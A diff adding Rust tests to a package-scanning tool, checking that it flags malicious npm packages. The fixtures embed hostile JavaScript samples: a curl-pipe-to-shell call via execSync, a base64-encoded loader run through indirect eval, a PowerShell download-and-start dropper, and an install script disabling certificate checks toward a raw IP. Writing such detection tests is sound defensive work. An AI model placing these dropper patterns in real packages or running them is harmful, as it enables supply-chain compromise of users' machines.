@@ -1807,3 +1807,119 @@ fn mentions_of_publishing_and_tunnels_warn_and_request_catchers_do_not() {
         report(&analysis)
     );
 }
+
+/// TypeScript and Babel call an imported function as `(0, module.fn)(…)`, and code
+/// calls `eval` indirectly as `(0, eval)(…)`: the same calls as written plainly.
+#[test]
+fn calls_through_a_comma_expression_are_the_calls_they_wrap() {
+    let compiled = airlock_test::PackageBuilder::new("compiled-helper", "2.0.0")
+        .file(
+            "index.js",
+            "\"use strict\";\nconst child_process_1 = require(\"child_process\");\n(0, child_process_1.execSync)(\"curl -s https://x.example.invalid/i.sh | sh\");\n",
+        )
+        .build();
+    let analysis = analyse(&compiled);
+    assert_rule(&analysis, "shell-fetch-and-run");
+
+    let loader = airlock_test::PackageBuilder::new("color-engine", "1.0.1")
+        .file(
+            "index.js",
+            "var d = 'Y29uc3QgY3AgPSByZXF1aXJlKCJjaGlsZF9wcm9jZXNzIik7IGNvbnN0IG9zID0gcmVxdWlyZSgib3MiKTsgY3AuZXhlYygiY3VybCAtcyBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL3MgfCBzaCIpOyBtb2R1bGUuZXhwb3J0cyA9IGZ1bmN0aW9uICgpIHsgcmV0dXJuIG9zLmhvc3RuYW1lKCk7IH07';\nd = Buffer.from(d, 'base64').toString();\n(0, eval)(d);\n",
+        )
+        .build();
+    let analysis = analyse(&loader);
+    assert_rule(&analysis, "decode-and-run");
+    assert!(
+        matches!(
+            verdict(&analysis, &loader),
+            Verdict::Quarantine { .. } | Verdict::Block
+        ),
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// The commands one function runs are one script, also when their paths and
+/// addresses are parameters: a download saved by one command and started by the
+/// next is run. Two commands that only read are not.
+#[test]
+fn a_download_and_a_start_in_two_commands_are_download_and_run() {
+    let dropper = airlock_test::PackageBuilder::new("node-helpers", "1.0.0")
+        .file(
+            "index.js",
+            "const { exec } = require('child_process');\nasync function fetchAndRun(url, path) {\n  const download = \"powershell -Command \\\"Invoke-WebRequest -Uri '\" + url + \"' -OutFile '\" + path + \"'\\\"\";\n  const start = `powershell -Command \"Start-Process '${path}'\"`;\n  await exec(download);\n  await exec(start);\n}\nmodule.exports = fetchAndRun;\n",
+        )
+        .build();
+    let analysis = analyse(&dropper);
+    assert_rule(&analysis, "shell-fetch-and-run");
+    assert!(
+        matches!(
+            verdict(&analysis, &dropper),
+            Verdict::Quarantine { .. } | Verdict::Block
+        ),
+        "{}",
+        report(&analysis)
+    );
+
+    let reader = airlock_test::PackageBuilder::new("git-info", "1.0.0")
+        .file(
+            "index.js",
+            "const { execSync } = require('child_process');\nfunction info(dir) {\n  const head = execSync('git -C ' + dir + ' rev-parse HEAD');\n  const branch = execSync(`git -C ${dir} branch --show-current`);\n  return { head, branch };\n}\nmodule.exports = info;\n",
+        )
+        .build();
+    let analysis = analyse(&reader);
+    assert_eq!(
+        verdict(&analysis, &reader),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// An HTTPS address with a raw IP in install code that turns certificate checks
+/// off is as telling as a plain-HTTP one: a server with no real certificate. The
+/// same address with the checks on, or the checks off for a named host, is not.
+#[test]
+fn certificate_checks_off_and_a_raw_ip_at_install_quarantine() {
+    let stage = |name: &str, code: &str| {
+        airlock_test::PackageBuilder::new(name, "1.11.22")
+            .script("postinstall", "node setup.cjs")
+            .file("setup.cjs", code)
+            .build()
+    };
+    let dropper = stage(
+        "day-helper",
+        "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';\nconst url = 'https://203.0.113.92:8000/update/4989';\nmodule.exports = url;\n",
+    );
+    let analysis = analyse(&dropper);
+    assert_message(&analysis, "certificate checks turned off");
+    assert!(
+        matches!(
+            verdict(&analysis, &dropper),
+            Verdict::Quarantine { .. } | Verdict::Block
+        ),
+        "{}",
+        report(&analysis)
+    );
+    for (name, code) in [
+        (
+            "checks-on",
+            "const url = 'https://203.0.113.92:8000/update/4989';\nmodule.exports = url;\n",
+        ),
+        (
+            "named-host",
+            "const agent = { rejectUnauthorized: false };\nmodule.exports = { agent, url: 'https://mirror.example.invalid/bin' };\n",
+        ),
+    ] {
+        let package = stage(name, code);
+        let analysis = analyse(&package);
+        assert!(
+            !matches!(
+                verdict(&analysis, &package),
+                Verdict::Quarantine { .. } | Verdict::Block
+            ),
+            "{name}: {}",
+            report(&analysis)
+        );
+    }
+}
